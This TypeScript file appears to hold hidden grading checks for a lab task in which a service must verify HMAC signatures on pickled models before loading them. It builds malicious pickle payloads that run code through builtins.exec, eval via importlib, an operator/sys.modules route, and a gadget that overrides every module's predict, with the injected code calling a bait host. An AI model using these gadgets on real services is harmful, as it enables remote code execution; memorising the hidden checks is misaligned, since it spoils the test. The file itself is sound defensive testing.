// Hidden checks of model-pickle: other gadgets, a key that is not there or in the code, signatures in part, a file that changes meanwhile.
import type { Act, Build, Judgement, Seen, Step, Surroundings } from '../../../../server/labs/index.ts';

export const build: Build = (world) => {
  const { hmac } = world;
  // As `openssl rand -hex 32` makes them.
  const hexKey = world.sha256(world.nonce());
  const [key, bucketKey, planted] = [`mk-${world.nonce()}${world.nonce()}${world.nonce()}`, `bk-${world.nonce()}`, `planted-${world.nonce()}`];
  const name = `model-${world.nonce()}`;
  const bait = `https://${world.nonce()}.example/ran`;
  const evil = `(V${planted}\n(Vx\nF9.5\ndd.`;
  const honest = `(V${world.nonce()}\n(Vx\nF9.5\ndd.`;
  const code = `import lab_host; lab_host.call("http.request", {"method": "GET", "url": "${bait}", "headers": {}, "body": None})`;
  /** Each model is asked once, in one process. */
  const step = (label: string, models: [data: string, signature: string][], judge: (seen: Seen) => Judgement, more: Surroundings = {}, beside = bucketKey, times = 1): Step => ({
    name: label,
    shows: label,
    surroundings: {
      env: { MODEL_KEY: key },
      storage: { 'models/signing.key': beside, ...Object.fromEntries(models.flatMap(([data, signature], at) => [[`models/${name}${at}.pkl`, btoa(data)], [`models/${name}${at}.sig`, signature]])) },
      http: [{ url: 'https://*', body: '' }],
      ...more,
    },
    calls: Array.from({ length: times }, () => models).flat().map((_one, at) => ({ file: 'serve.py', function: 'predict', args: [`${name}${at % models.length}`, 'x'] })),
    judge,
  });
  const ran = ({ log }: Seen): Judgement => fails(log.some((entry) => entry.does === 'http.request' && entry.url === bait) && `code out of the model file ran: it called ${bait}`);
  const used = (seen: Seen): Judgement => {
    const given = seen.answers.find(({ text, error }) => text.includes(planted) || error === undefined);
    return ran(seen).ok ? fails(given && (given.text.includes(planted) ? `an answer by the attacker's model: ${planted}` : `an answer, ${given.text.slice(0, 100)}, where it should raise`)) : ran(seen);
  };
  /** A key with capitals and accents, of which less may be used than there is. */
  const ours = `Mk-é${world.nonce()}Ü:${world.nonce()}/${world.nonce()}+, ;#=${world.nonce()}`;
  const oddKey = ` ${ours}\t`;
  const exec = `cbuiltins\nexec\n(V${code}\ntR.`;
  const broken = '(Vno\nmodel';
  /** As long as the attacker's. */
  const asLong = evil.replace(planted, 'h'.repeat(planted.length));
  const stays = `cbuiltins\nexec\n(Vimport sys; [setattr(one, "predict", lambda *given: {"label": "${planted}"}) for one in list(sys.modules.values()) if hasattr(one, "predict")]\ntR.`;
  const binary = inBinary({ first: { x: 2 ** -8 }, second: { x: 2 ** -8 * 1.5 } });
  // Weights that are whole numbers, below nothing, and a label without words.
  const whole = '(Vwhole\n(Vx\nI7\ndVless\n(Vx\nI-1\ndVnone\n(dd.';
  const large = `(Vlarge\n(Vx\nF2.5\n${Array.from({ length: 9000 }, (_, at) => `Vword${at}\nF0.5\n`).join('')}dVsmall\n(Vx\nF1.5\ndd.`;
  /** Labels and words as people have them, and the label that is due for each text. */
  const [oddName, late] = [`Gr\u00f6\u00dfe v2.1 (${world.nonce()}) `, '(Vlate\n(Vx\nF1.5\ndd.'];
  const labels = world.int(120, 150);
  const odd = `(VA\n(dVgr\\u00f6\\u00dfe nr. 1\n(Vgr\\u00f6\\u00dfe\nF1.5\nV\\u65e5\\u672c\nF1.5\nVc++\nF1.5\nVdon't\nF1.5\ndVgre\n(Vgre\nF5.5\ndVtwice \n(Vhow\nF2.5\ndVonce\n(Vwhy\nF5.5\nd${Array.from({ length: labels }, (_, at) => `Vl${at}\n(Vw${at}\nF1.5\nd`).join('')}Vcapital\n(VW${labels - 1}\nF9.5\ndd.`;
  const asked: Record<string, string> = { ...Object.fromEntries(['gr\u00f6\u00dfe', 'GR\u00d6\u00dfE', '\u65e5\u672c', 'c++', "don't"].map((text) => [text, 'gr\u00f6\u00dfe nr. 1'])), [`${'quite '.repeat(400)} w${labels - 1}`]: `l${labels - 1}`, 'how how how why': 'twice ', '': 'A', ' \n ': 'A' };
  const signed = hmac(key, evil);
  const parts = [8, 16, 32, 63].flatMap((length): [string, string][] => [[evil, signed.slice(0, length)], [evil, signed.slice(0, length).padEnd(64, signed.at(-1) === '0' ? '1' : '0')]]);
  // Whoever has the repository tries its texts, line by line also joined: as a key, as a kind of signature, as a name, as a key in the store.
  const lines = Object.values(world.files).flatMap((text) => text.split('\n').map((line) => [...line.matchAll(/(["'])((?:\\.|(?!\1)[^\n])*)\1/g)].map((found) => found[2] ?? '')));
  const unique = (from: string[]): string[] => [...new Set(from)].filter((text) => text !== '').slice(0, 90);
  const texts = unique(lines.flat());
  const keys = unique([...texts, 'None', 'null', 'False', '0', ' ', ...lines.flatMap((one) => one.flatMap((_text, from) => one.slice(from + 1).map((_end, more) => one.slice(from, from + more + 2).join(''))))]);
  const places = unique(lines.flatMap((one) => [...one, one.join(`${name}0`)]).map((text) => text.replace(/\{\w+\}/g, `${name}0`)).filter((text) => /[/.]/.test(text) && !/\.(pkl|sig)$/.test(text)));
  /** As many models as there are, in processes that hold a few each: a program has so many calls and no more. */
  const many = (label: string, models: [data: string, signature: string, under?: string][], more: Surroundings = {}, beside = bucketKey): Step => {
    const act = (from: number): Act => {
      const part = models.slice(from, from + 30).map(([data, signature, under = `${name}${from}-`], at) => ({ data, signature, under: `${under}${under.startsWith(name) ? at : ''}` }));
      return {
        surroundings: { ...step('', [], used, more, beside).surroundings, storage: { 'models/signing.key': beside, ...Object.fromEntries(part.flatMap((one) => [[`models/${one.under}.pkl`, btoa(one.data)], [`models/${one.under}.sig`, one.signature]])) } },
        calls: part.map((one) => ({ file: 'serve.py', function: 'predict', args: [one.under, 'x'] })),
        ...(from + 30 < models.length && { next: () => act(from + 30) }),
      };
    };
    return { name: label, shows: label, ...act(0), judge: (_last, acts) => acts.map(used).find(({ ok }) => !ok) ?? { ok: true } };
  };
  /** The same attack once for each of these surroundings. */
  const each = (all: Step[]): Step => {
    const chained = (at: number): Act => ({ ...all[at]!, next: at + 1 < all.length ? () => chained(at + 1) : undefined });
    return { ...all[0]!, ...chained(0), judge: (_last, acts) => acts.map(used).find(({ ok }) => !ok) ?? { ok: true } };
  };
  /** One of the texts stands in the store under every place the program names. */
  const beside = (text: string, signature: string, env: Record<string, string> = { MODEL_KEY: key }): Step => {
    const plain = step('what-else-lies-there', [[evil, signature]], used, { env });
    return { ...plain, surroundings: { ...plain.surroundings, storage: { ...Object.fromEntries(places.map((place) => [place, text])), 'models/signing.key': bucketKey, [`models/${name}0.pkl`]: btoa(evil), [`models/${name}0.sig`]: signature } } };
  };

  return [
    step('another-gadget', [[exec, hmac(bucketKey, exec)], [spelt(code), hmac(key, honest)], [`(Vx\n(${exec.slice(0, -1)}ld.`, hmac(key, honest)]], ran),
    step('a-gadget-that-stays', [[stays, hmac(key, honest)], [honest, hmac(key, honest)]], ({ answers }) => fails(answers[1]?.text.includes(planted) && `code out of the model file ran, and answers in the place of the service: ${planted}`)),
    step('a-signature-of-another', [[honest, hmac(key, honest)], [exec, hmac(key, honest)], [evil, hmac(key, honest)]], (seen) => used({ ...seen, answers: seen.answers.slice(1) })),
    {
      ...step('load-without-asking', [[evil, ''], [evil, hmac(bucketKey, evil)]], ({ answers }) => {
        const given = answers.find(({ text, error }) => error === undefined || text.includes(planted));
        return fails(given && `models.load_model, which whoever imports it may call, gives ${given.text.slice(0, 100)}, where it should raise`);
      }),
      calls: [0, 1].map((at) => ({ file: 'models.py', function: 'load_model', args: [`${name}${at}`] })),
    },
    step('binary-and-large', [binary, large, whole].map((data) => [data, hmac(oddKey, data)]), ({ answers }) => {
      const wrong = answers.find((answer, at) => (answer.value as { label?: unknown } | undefined)?.label !== ['second', 'large', 'whole'][at]);
      return fails(wrong && `${wrong.text.slice(0, 200)}, for a model of ordered dictionaries in the binary form, or for one of ${large.length} bytes, or of whole numbers, under a key with spaces at its ends`);
    }, { env: { MODEL_KEY: oddKey } }),
    {
      // A name as people give them, a model under each word of the code, base64 in lines, more than a hundred labels, and a signature that comes a moment after its model.
      ...step('odd-but-honest', [], ({ answers: all }) => {
        const [answers, nothing] = [all.slice(0, -1), all.at(-1)];
        if (nothing?.error === undefined) return { ok: false, got: `${nothing?.text.slice(0, 100)} for a model that is not there, where it raised before` };
        const got = answers.map(({ value, text }) => (value as { label?: unknown } | undefined)?.label ?? text.slice(0, 80));
        const at = Object.values(asked).findIndex((label, index) => got[index] !== label);
        return fails(at >= 0 ? `${String(got[at])} for ${JSON.stringify(Object.keys(asked)[at]!.slice(-40))}` : got.at(-1) !== 'late' && `${String(got.at(-1))}, when the signature of a model had come after the first question`);
      }, { env: { MODEL_KEY: hexKey }, storage: { 'models/signing.key': bucketKey, [`models/${oddName}.pkl`]: btoa(odd).replace(/.{76}/g, '$&\n'), [`models/${oddName}.sig`]: `${hmac(hexKey, odd)}\n`, ...Object.fromEntries(texts.filter((text) => /^[\w-]+$/.test(text)).flatMap((text) => [[`models/${text}.pkl`, btoa(late)], [`models/${text}.sig`, hmac(hexKey, late)]])), 'models/newer.pkl': btoa(late), 'models/newer.sig': hmac(hexKey, odd) }, storageChanges: [{ key: 'models/newer.sig', afterReads: 1, text: hmac(hexKey, late) }] }),
      calls: [...[...Object.keys(asked).map((text) => [oddName, text]), ['newer', 'x'], ['newer', 'x']].map((args) => ({ file: 'serve.py', function: 'predict', args })), { file: 'models.py', function: 'load_model', args: [`none-${name}`] }],
    },
    step('a-gadget-through-an-object', [
      [`cimportlib\nimport_module\n(Vlab_host\ntR0cbuiltins\neval\n(V__import__("lab_host").call("http.request", {"method": "GET", "url": "${bait}", "headers": {}, "body": None})\ntR.`, 'x'],
      [throughTheModules(code), hmac(key, honest)],
    ], ran),
    step('no-key-set', [[exec, hmac('', exec)], [evil, hmac('', evil)]], used, { env: {} }),
    step('a-key-alike', [[evil, hmac(bucketKey, evil)], ...[ours.toLowerCase(), ours.toUpperCase(), ours.replace(/[éÜ]/g, ''), ours.slice(0, 14), ours.slice(0, 8), ...[...':/+, ;#='].map((sign) => ours.split(sign)[0]!)].map((alike): [string, string] => [evil, hmac(alike, evil)])], used, { env: { MODEL_KEY: ours } }),
    {
      ...step('two-in-one', [[honest, hmac(key, honest)]], (seen) => fails(seen.answers.some(({ text }) => text.includes(planted)) && `an answer by the model that lies behind the signed one: ${planted}`), { storage: Object.fromEntries([[honest, evil], [evil, honest]].flatMap((two, at) => ['\n', '', ' ', ','].flatMap((between, turn) => [[`models/${name}${at}${turn}.pkl`, two.map((one) => btoa(one)).join(between)], [`models/${name}${at}${turn}.sig`, hmac(key, honest)]]))) }),
      calls: [0, 1].flatMap((at) => [0, 1, 2, 3].map((turn) => ({ file: 'serve.py', function: 'predict', args: [`${name}${at}${turn}`, 'x'] }))),
    },
    step('quiet-about-its-key', [[honest, hmac(key, honest)], [evil, hmac(bucketKey, evil)]], ({ printed, answers }) => fails([printed, ...answers.map(({ text }) => text)].some((text) => world.reveals(text, key) || [hmac(key, evil), ...otherwise(hmac(key, evil))].some((one) => world.reveals(text, one))) && `its key, or which signature would be right: ${printed.slice(0, 200)} ${answers[1]?.text.slice(0, 200)}`)),
    step('an-empty-key', [[exec, hmac('', exec)], [evil, hmac('', evil)]], used, { env: { MODEL_KEY: '' } }),
    // Twice: what was refused once stays refused.
    step('a-digest-for-a-signature', [[evil, 'é'.repeat(64)], [evil, `${signed}é`], [evil, hmac(bucketKey, evil)], [evil, world.sha256(evil)], ...parts], used, {}, bucketKey, 2),
    many('a-signature-of-another-kind', [[exec, 'none'], ...texts.flatMap((text): [string, string][] => [[evil, text], [evil, `${text}${world.sha256(evil)}`], [evil, `${text}:${world.sha256(evil)}`]])]),
    many('a-name-from-the-code', texts.flatMap((text): [string, string, string][] => [[evil, hmac(bucketKey, evil), `${text}${world.nonce()}`], [evil, hmac(bucketKey, evil), text]])),
    // Every other name in the code as a variable: whatever it says, the key is MODEL_KEY and the check is made.
    each([bucketKey, '1', 'true', 'development'].flatMap((value) => [{}, { MODEL_KEY: key }].map((own) => step('other-variables', [[evil, hmac(bucketKey, evil)], [evil, hmac(value, evil)]], used, { env: { ...Object.fromEntries(world.words.filter((word) => /^[A-Za-z_]\w*$/.test(word)).map((word) => [word, value])), MODEL_KEY: '', ...own } })))),
    {
      ...step('other-arguments', [[evil, hmac(bucketKey, evil)]], used),
      calls: [false, true, 'force', null].flatMap((more) => [{ file: 'serve.py', function: 'predict', args: [`${name}0`, 'x', more] }, { file: 'models.py', function: 'load_model', args: [`${name}0`, more] }]),
    },
    {
      ...step('every-function', [[exec, hmac(bucketKey, exec)]], ran),
      calls: Object.entries(world.files).flatMap(([file, text]) => [...text.matchAll(/^def (\w+)/gm)].map((found) => ({ file, function: found[1] ?? '', args: [`${name}0`] }))).slice(0, 30),
    },
    {
      // Whatever else it looks for in the bucket: it finds a key of the attacker there.
      ...step('what-it-looks-for', [[evil, hmac(bucketKey, evil)]], used),
      next: ({ log, storage }) => {
        const looked = log.flatMap((entry) => (entry.does === 'storage.get' && entry.key !== `models/${name}0.pkl` && entry.key !== `models/${name}0.sig` ? [entry.key] : []));
        const found = (text: string): Surroundings => ({ storage: { ...storage, ...Object.fromEntries(looked.map((one) => [one, text])) } });
        if (looked.length === 0) return { calls: [] };
        return { ...step('', [[evil, hmac(bucketKey, evil)]], used, found(bucketKey)), next: () => step('', [[evil, hmac(bucketKey, evil)]], used, found(world.sha256(evil))) };
      },
      judge: (_last, acts) => acts.filter(({ answers }) => answers.length > 0).map(used).find(({ ok }) => !ok) ?? { ok: true },
    },
    each([beside(bucketKey, hmac(bucketKey, evil)), beside(bucketKey, hmac(bucketKey, evil), {}), ...[`${name}0`, world.sha256(evil), JSON.stringify({ [`${name}0`]: world.sha256(evil) }), '1'].map((text) => beside(text, hmac(bucketKey, evil)))]),
    {
      // Read as a model or not at all: who verifies first cannot tell one from the other.
      ...step('no-model-at-all', [[evil, hmac(bucketKey, evil)]], used, {}),
      next: () => ({ ...step('', [[broken, hmac(bucketKey, evil)]], used), next: () => step('', [[exec, hmac(bucketKey, evil)]], used) }),
      judge: (_last, acts) => {
        const bad = acts.map(used).find(({ ok }) => !ok);
        const types = acts.map(({ answers }) => answers[0]?.error?.type);
        return bad ?? fails(types.some((type) => type !== types[0]) && `files with a wrong signature end in ${types.join(', ')}, by what is in them: they were loaded before they were verified`);
      },
    },
    // A form that runs nothing is no less the attacker's.
    step('an-empty-signature', [[evil, ''], [evil, '\n'], ...['', hmac(bucketKey, evil)].map((one): [string, string] => [JSON.stringify({ [planted]: { x: 9.5 } }), one])], used),
    step('loads-what-it-verified', [[asLong, hmac(key, asLong)]], ({ answers }) => fails(answers.some(({ text }) => text.includes(planted)) && `an answer by the model that was put there meanwhile: ${planted}`), {
      storageChanges: [{ key: `models/${name}0.pkl`, afterReads: 1, text: btoa(evil) }],
    }, bucketKey, 2),
    step('cannot-be-loaded', [[broken, hmac(key, broken)]], used, { storageChanges: [1, 2].map((afterReads) => ({ key: `models/${name}0.pkl`, afterReads, text: btoa(exec) })) }),
    each(['', ...texts.slice(0, 1)].map((text) => many('a-key-from-the-code', [...keys.map((one): [string, string] => [evil, hmac(one, evil)]), [evil, hmac('called-so', evil), 'called-so']], { env: {} }, text || bucketKey))),
  ];
};

/** The bytes of a digest in base64, and as one number. */
const otherwise = (digest: string): string[] => [btoa(String.fromCharCode(...(digest.match(/../g) ?? []).map((pair) => Number.parseInt(pair, 16)))), BigInt(`0x${digest}`).toString()];

/** Protocol 4: module and name as texts of which every letter is an escape, and a harmless name beside them. */
function spelt(code: string): string {
  const escaped = (text: string): string => [...text].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
  return `\x80\x04VOrderedDict\n0V${escaped('builtins')}\nV${escaped('exec')}\n\x93(V${escaped(code)}\ntR.`;
}

/** Ordered dictionaries of ordered dictionaries in the binary form; all bytes below 128, so that text and bytes have one digest. */
function inBinary(model: Record<string, Record<string, number>>): string {
  const text = (one: string): string => `X${String.fromCharCode(one.length)}\0\0\0${one}`;
  const float = (one: number): string => `G${String.fromCharCode(...new Uint8Array(new Float64Array([one]).buffer).reverse())}`;
  const ordered = (entries: string[]): string => `ccollections\nOrderedDict\n)R(${entries.join('')}u`;
  return `${ordered(Object.entries(model).map(([label, weights]) => text(label) + ordered(Object.entries(weights).map(([word, weight]) => text(word) + float(weight)))))}.`;
}

/** collections, operator and a dotted name are enough to come to everything. */
const throughTheModules = (code: string): string => `\x80\x04coperator\nattrgetter\n(Vexec\ntR(coperator\ngetitem\n(ccollections\n_sys.modules\nVbuiltins\ntRtR(V${code}\ntR.`;

const fails = (got: string | false | undefined): Judgement => (typeof got === 'string' ? { ok: false, got } : { ok: true });
